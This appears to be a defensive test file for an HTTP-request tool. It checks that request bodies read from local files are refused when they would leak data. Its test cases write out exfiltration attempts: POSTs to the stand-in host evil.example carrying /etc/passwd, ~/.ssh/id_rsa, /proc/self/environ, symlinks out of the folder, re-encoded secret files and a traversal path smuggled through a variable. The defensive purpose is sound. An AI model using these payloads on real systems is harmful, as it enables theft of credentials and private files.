import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack, Prepared, Volley } from './attack';
import { canaries, fromEnvironment } from './canaries';

const GROUP = 'f: body files';

const toEvil = (tried: string, path: string, expect: Attack['expect'], says?: RegExp): Attack => ({
  tried: `${tried}: < ${path}`,
  request: `# @no-sign\nPOST https://evil.example/ID\n\n${path.startsWith('<') ? path : `< ${path}`}`,
  expect,
  ...(says && { says }),
});

function prepare({ work, outside }: Prepared): void {
  writeFileSync(join(outside, 'private.txt'), 'the private file of somebody');
  symlinkSync(join(outside, 'private.txt'), join(work, 'link.txt'));
  symlinkSync(outside, join(work, 'folder'));
  mkdirSync(join(work, 'sub'));
  execFileSync('mkfifo', [join(work, 'pipe')]);
  writeFileSync(join(work, 'huge.bin'), '');
  truncateSync(join(work, 'huge.bin'), 200 * 1024 * 1024);
  const dotenv = Object.entries(fromEnvironment).map(([name, value]) => `${name}='${value}'\n`);
  writeFileSync(join(work, 'secrets.env'), dotenv.join(''));
  writeFileSync(join(work, 'secrets.bin'), Buffer.from(`\u0001${canaries.key}`, 'utf16le'));
}

const OUTSIDE = /lies outside of .*nobody can be asked here/;

export const files: readonly Volley[] = [
  {
    group: GROUP,
    how: 'files of this computer as the body of a request to a stranger, nobody to ask',
    against: 'live',
    prepare,
    attacks: [
      toEvil('a file above the folder', '../private.txt', 'refused', OUTSIDE),
      toEvil('many steps up', '../../../../../../../../etc/passwd', 'refused', OUTSIDE),
      toEvil('an absolute path', '/etc/passwd', 'refused', OUTSIDE),
      toEvil('the home folder', '~/.ssh/id_rsa', 'invalid', /was not found/),
      toEvil('a file: address', 'file:///etc/passwd', 'invalid', /was not found/),
      toEvil('a share of another computer', '\\\\evil.example\\share\\x', 'invalid'),
      toEvil('a link out of the folder', './link.txt', 'refused', OUTSIDE),
      toEvil('a linked folder', './folder/private.txt', 'refused', OUTSIDE),
      toEvil('a folder', './sub', 'invalid', /it is a folder/),
      toEvil('a pipe that nobody writes to', './pipe', 'invalid', /it is a pipe or a device/),
      toEvil('a device without end', '/dev/zero', 'invalid', /it is a pipe or a device/),
      toEvil('a huge file', './huge.bin', 'invalid', /larger than 100 MB/),
      toEvil('the environment of this process', '/proc/self/environ', 'refused', OUTSIDE),
      toEvil('a name with a variable that leads out', './{{$processEnv UP}}', 'refused', OUTSIDE),
      toEvil('a file of the folder that holds our secrets', './secrets.env', 'refused', /holds the secret/),
      toEvil('the same, read as UTF-16', '<@utf-16le ./secrets.env', 'refused', /holds the secret/),
      toEvil('the same, read as UTF-16 of the other order', '<@utf-16be ./secrets.env', 'refused', /holds the secret/),
      toEvil('a file that holds the key as UTF-16', './secrets.bin', 'refused', /holds the secret/),
      toEvil('a file of the folder that holds nothing of ours', './stranger.http', 'sent bare'),
    ],
    env: { UP: '../private.txt' },
  },
  {
    group: GROUP,
    how: 'the same with --yes, where the bytes themselves are looked at',
    against: 'live',
    args: ['--yes'],
    prepare,
    attacks: [
      toEvil('the environment of this process', '/proc/self/environ', 'refused', /holds the secret/),
      toEvil(
        // Whether these bytes happen to be UTF-16 depends on the length of everything in the environment.
        'the same, read as UTF-16',
        '<@utf-16le /proc/self/environ',
        ['refused', 'invalid'],
        /holds the secret|is not valid utf-16le/,
      ),
      toEvil('the environment by its number', '/proc/thread-self/environ', 'refused', /holds the secret/),
      toEvil('a file above the folder, which was allowed', '../private.txt', 'sent bare'),
    ],
  },
];
